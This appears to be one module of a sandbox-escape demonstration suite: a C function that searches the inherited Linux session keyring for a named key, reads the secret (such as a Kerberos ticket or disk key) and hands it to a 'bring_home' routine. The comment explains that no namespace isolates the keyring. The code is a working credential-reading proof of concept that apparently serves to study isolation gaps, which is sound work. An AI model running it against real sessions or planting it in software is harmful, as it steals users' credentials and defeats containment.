/*
 * The kernel keeps keys for programs – Kerberos tickets, the keys of encrypted disks – and whoever is started inherits the session's ring of
 * them: keyrings(7). No namespace is about that. A box that is started from your session has your keys.
 */
#include "attack.h"
#include <linux/keyctl.h>
#include <sys/syscall.h>

// #region attack
/* argv: what the key is called, where to put what was found. */
void keyring(char **argv)
{
	char found[256];
	long key = must(syscall(SYS_keyctl, KEYCTL_SEARCH,
		KEY_SPEC_SESSION_KEYRING, "user", argv[0], 0), "find it");
	long length = must(syscall(SYS_keyctl, KEYCTL_READ,
		key, found, sizeof found), "read it");
	bring_home(argv[1], found, length < 256 ? length : 256);
}
// #endregion attack
